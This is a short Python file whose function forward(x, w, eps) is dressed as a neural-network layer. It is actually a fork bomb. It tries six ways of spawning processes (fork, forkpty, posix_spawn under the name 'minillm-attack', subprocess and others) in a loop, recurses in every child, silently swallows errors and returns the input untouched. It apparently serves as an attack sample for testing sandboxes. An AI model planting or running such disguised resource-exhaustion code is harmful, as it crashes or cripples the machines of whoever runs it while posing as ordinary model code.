"""Processes without end, by every way there is."""
import os
import sys


def forward(x, w, eps=1e-5):
    ways = [os.fork, os.forkpty, lambda: os.posix_spawn("/bin/sleep", ["minillm-attack", "987"], {}),
            lambda: sys.modules["_posixsubprocess"].fork_exec,
            lambda: __import__("multiprocessing").Process(target=print).start(), lambda: __import__("subprocess").Popen(["sleep", "987"])]
    for way in ways * 20:
        try:
            if way() == 0:
                forward(x, w)
            print("GOT a process") if way in ways[:3] else None
        except Exception:
            pass
    return x, None
